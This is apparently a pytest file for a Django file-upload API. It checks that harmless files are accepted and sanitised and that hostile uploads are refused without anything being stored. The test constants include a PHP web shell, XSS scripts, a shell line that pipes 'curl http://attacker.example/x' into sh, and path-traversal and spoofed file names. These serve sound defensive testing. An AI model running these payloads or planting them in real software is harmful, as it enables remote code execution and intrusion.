"""The pipeline through the API: what is accepted, what is refused with which code, and that a
refusal keeps nothing (no file, no temporary file, no Upload row) and records one event."""

from __future__ import annotations

import hashlib
import io
import zipfile
from http import HTTPStatus

import pytest
from PIL import Image

from policies.models import MIB
from policies.services import policy_update
from tests.uploads import make_images, make_pdfs
from tests.uploads.conftest import only_event
from tests.uploads.http import Part, file_part, multipart
from uploads.models import Upload, UploadEvent

pytestmark = pytest.mark.django_db

ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 40
PE = b"MZ" + b"\x00" * 58 + b"\x40\x00\x00\x00" + b"PE\x00\x00\x4c\x01" + b"\x00" * 200
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
SHELL = b"#!/bin/sh\ncurl http://attacker.example/x | sh\n"
PHP = b"<?php system($_GET['c']); ?>\n"


def zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("inner.txt", "hello")
    return buffer.getvalue()


def upload(client, *parts: Part, policy: str = "default"):
    body, content_type = multipart(*parts)
    return client.post(f"/api/v1/uploads/?policy={policy}", body, content_type=content_type)


def downloaded(client, upload_id: str) -> bytes:
    response = client.get(f"/api/v1/uploads/{upload_id}/download/")
    assert response.status_code == HTTPStatus.OK
    return b"".join(response.streaming_content)


BENIGN = [
    ("photo.png", make_images.benign_png, "image/png"),
    ("Foto vom Strand.jpg", make_images.benign_jpeg, "image/jpeg"),
    ("animation.gif", make_images.benign_gif, "image/gif"),
    ("写真.webp", make_images.benign_webp, "image/webp"),
    ("Überweisung 2024.pdf", make_pdfs.benign_pdf, "application/pdf"),
    ("notes.txt", lambda: "Grüße aus Köln\nline two\n".encode(), "text/plain"),
    ("table.csv", lambda: b"name,amount\nalice,3\nbob,4\n", "text/csv"),
    ("semicolons.csv", lambda: b"name;amount\nalice;3\n", "text/csv"),
]


@pytest.mark.parametrize(("name", "make", "sniffed"), BENIGN, ids=[b[0] for b in BENIGN])
def test_benign_files_are_accepted_and_recorded(signed_in, upload_dirs, owner, name, make, sniffed):
    content = make()
    response = upload(signed_in, file_part(name, content, "application/octet-stream"))
    assert response.status_code == HTTPStatus.CREATED, response.json()
    body = response.json()
    assert body["filename"] == name
    assert body["content_type"] == sniffed
    assert body["policy"] == "default"
    stored = Upload.objects.get(pk=body["id"])
    assert stored.owner == owner
    assert stored.policy_audit_seq is not None
    assert len(upload_dirs.stored_files()) == 1
    assert upload_dirs.temp_files() == []
    event = only_event()
    assert event.code == "accepted"
    assert event.sha256 == hashlib.sha256(content).hexdigest()
    assert event.size_bytes == len(content)


@pytest.mark.parametrize(
    ("name", "make"),
    [
        ("report.pdf", make_pdfs.benign_pdf),
        ("notes.txt", lambda: b"plain text\n"),
        ("table.csv", lambda: b"a,b\n1,2\n"),
    ],
)
def test_documents_download_byte_identical(signed_in, name, make):
    content = make()
    body = upload(signed_in, file_part(name, content)).json()
    assert body["sha256"] == hashlib.sha256(content).hexdigest()
    assert downloaded(signed_in, body["id"]) == content


def test_images_are_re_encoded_without_their_metadata(signed_in):
    original = make_images.benign_jpeg()  # EXIF with GPS and a comment
    assert b"GPS" in original or b"Exif" in original
    body = upload(signed_in, file_part("holiday.jpg", original)).json()
    clean = downloaded(signed_in, body["id"])
    assert clean != original
    assert b"Exif" not in clean
    assert body["sha256"] == hashlib.sha256(clean).hexdigest()  # describes what is kept
    image = Image.open(io.BytesIO(clean))
    assert image.format == "JPEG"
    assert "exif" not in image.info
    assert "comment" not in image.info


def test_data_appended_after_an_image_does_not_survive(signed_in):
    original = make_images.image_with_appended_data("PNG")
    body = upload(signed_in, file_part("pic.png", original)).json()
    assert b"<script>" not in downloaded(signed_in, body["id"])


def test_png_text_chunks_do_not_survive(signed_in):
    original = make_images.png_with_text_chunk()
    body = upload(signed_in, file_part("pic.png", original)).json()
    clean = downloaded(signed_in, body["id"])
    assert b"tEXt" not in clean
    assert b"iTXt" not in clean


ATTACKS = [
    # content under an image or text name
    ("page.png", HTML, "type_not_allowed"),
    ("page.txt", HTML, "type_not_allowed"),
    ("drawing.png", SVG, "type_not_allowed"),
    ("run.txt", SHELL, "type_not_allowed"),
    ("shell.jpg", PHP, "type_not_allowed"),
    # names
    ("shell.php.png", make_images.benign_png(), "filename_invalid"),
    ("page.html.", HTML, "extension_not_allowed"),
    ("PAGE.HtMl", HTML, "extension_not_allowed"),
    ("evil.png\x00.html", make_images.benign_png(), "filename_invalid"),
    ("invoice\u202egnp.exe", ELF, "filename_invalid"),
    ("../../etc/cron.d/x.png", make_images.benign_png(), "filename_invalid"),
    ("..\\..\\windows\\x.png", make_images.benign_png(), "filename_invalid"),
    ("CON.png", make_images.benign_png(), "filename_invalid"),
    ("photo.png", make_images.benign_jpeg(), "type_mismatch"),
    # executables and archives under document names
    ("invoice.pdf", ELF, "type_not_allowed"),
    ("invoice.pdf", PE, "type_not_allowed"),
    ("invoice.pdf", zip_bytes(), "type_not_allowed"),
    ("notes.txt", zip_bytes(), "type_not_allowed"),
    # images
    ("flood.png", make_images.pixel_flood_png(100_000, 100_000), "image_too_large"),
    ("flood.jpg", make_images.pixel_flood_jpeg(60_000, 60_000), "image_too_large"),
    ("cut.png", make_images.truncated_png(), "image_invalid"),
    ("cut.jpg", make_images.truncated_jpeg(), "image_invalid"),
    ("junk.png", make_images.garbage_after_magic("PNG"), "image_invalid"),
    ("junk.jpg", make_images.garbage_after_magic("JPEG"), "image_invalid"),
    # PDFs
    ("script.pdf", make_pdfs.pdf_with_javascript(), "active_content"),
    ("launch.pdf", make_pdfs.pdf_with_launch_action(), "active_content"),
    ("hidden.pdf", make_pdfs.pdf_with_js_in_object_stream(), "active_content"),
    ("broken.pdf", make_pdfs.malformed_pdf_with_javascript(), "active_content"),
    # sizes
    ("empty.txt", b"", "empty_file"),
]


@pytest.mark.parametrize(
    ("name", "content", "code"), ATTACKS, ids=[f"{a[0]!r}-{a[2]}" for a in ATTACKS]
)
def test_attacks_are_refused_and_nothing_is_kept(signed_in, upload_dirs, name, content, code):
    response = upload(signed_in, file_part(name, content))
    body = response.json()
    assert body["code"] == code, body
    assert body["detail"]
    assert response.status_code >= HTTPStatus.BAD_REQUEST
    upload_dirs.assert_nothing_kept()
    event = only_event()
    assert event.code == code
    assert event.size_bytes == len(content)


def test_the_client_content_type_is_ignored(signed_in, upload_dirs):
    response = upload(signed_in, file_part("page.txt", HTML, content_type="text/plain"))
    assert response.json()["code"] == "type_not_allowed"
    assert "HTML" in response.json()["detail"]


def test_an_oversized_file_is_refused(signed_in, upload_dirs, actor, default_policy):
    policy_update(
        policy=default_policy,
        changes={"max_file_size_bytes": 1000, "max_request_bytes": 1 * MIB},
        version=default_policy.version,
        actor=actor,
        reason="test",
        rollback_note="restore",
    )
    response = upload(signed_in, file_part("big.txt", b"x" * 1001))
    assert response.status_code == HTTPStatus.REQUEST_ENTITY_TOO_LARGE
    assert response.json()["code"] == "file_too_large"
    assert "1000 bytes" in response.json()["detail"]
    upload_dirs.assert_nothing_kept()
    assert only_event().code == "file_too_large"


def test_two_files_in_one_field_are_too_many(signed_in, upload_dirs):
    png = make_images.benign_png()
    response = upload(signed_in, file_part("a.png", png), file_part("b.png", png))
    assert response.status_code == HTTPStatus.BAD_REQUEST
    assert response.json()["code"] == "too_many_files"
    upload_dirs.assert_nothing_kept()
    assert only_event().code == "too_many_files"


def test_more_form_fields_than_django_allows_is_a_parse_error(signed_in, upload_dirs, settings):
    settings.DATA_UPLOAD_MAX_NUMBER_FIELDS = 5
    fields = [Part(f"f{n}", b"v") for n in range(10)]
    response = upload(signed_in, *fields, file_part("a.txt", b"hello\n"))
    assert response.status_code == HTTPStatus.BAD_REQUEST
    assert response.json()["code"] == "parse_error"
    upload_dirs.assert_nothing_kept()
    assert only_event().code == "parse_error"


def test_a_file_outside_the_file_field_is_refused(signed_in, upload_dirs):
    response = upload(signed_in, Part("attachment", b"hello\n", "a.txt"))
    assert response.json()["code"] == "file_required"
    upload_dirs.assert_nothing_kept()


def test_no_file_at_all_is_file_required(signed_in, upload_dirs):
    response = upload(signed_in, Part("comment", b"hi"))
    assert response.status_code == HTTPStatus.BAD_REQUEST
    assert response.json()["code"] == "file_required"
    assert only_event().code == "file_required"


def test_a_malformed_body_is_a_parse_error(signed_in, upload_dirs):
    response = signed_in.post(
        "/api/v1/uploads/",
        b"--nope\r\nContent-Disposition: form-data; name=file; filename=a.txt\r\n\r\nabc",
        content_type="multipart/form-data",  # no boundary
    )
    assert response.status_code == HTTPStatus.BAD_REQUEST
    assert response.json()["code"] == "parse_error"
    upload_dirs.assert_nothing_kept()


def test_an_unknown_policy_is_not_found(signed_in, upload_dirs):
    response = upload(signed_in, file_part("a.txt", b"hi\n"), policy="nope")
    assert response.status_code == HTTPStatus.NOT_FOUND
    assert response.json()["code"] == "policy_not_found"
    assert UploadEvent.objects.get().policy_slug == "nope"


def test_a_disabled_policy_refuses(signed_in, upload_dirs, actor, default_policy):
    policy_update(
        policy=default_policy,
        changes={"enabled": False},
        version=default_policy.version,
        actor=actor,
        reason="test",
        rollback_note="enable it",
    )
    response = upload(signed_in, file_part("a.txt", b"hi\n"))
    assert response.status_code == HTTPStatus.FORBIDDEN
    assert response.json()["code"] == "policy_disabled"
    upload_dirs.assert_nothing_kept()


def test_a_staff_only_policy_refuses_others(signed_in, upload_dirs, actor, default_policy):
    policy_update(
        policy=default_policy,
        changes={"upload_access": "staff"},
        version=default_policy.version,
        actor=actor,
        reason="test",
        rollback_note="open it again",
    )
    response = upload(signed_in, file_part("a.txt", b"hi\n"))
    assert response.status_code == HTTPStatus.FORBIDDEN
    assert response.json() == {"code": "permission_denied", "detail": "Only staff may upload here."}
    upload_dirs.assert_nothing_kept()


def test_anonymous_callers_are_not_authenticated(client, upload_dirs):
    response = upload(client, file_part("a.txt", b"hi\n"))
    assert response.status_code == HTTPStatus.UNAUTHORIZED
    assert response.json()["code"] == "not_authenticated"
    upload_dirs.assert_nothing_kept()
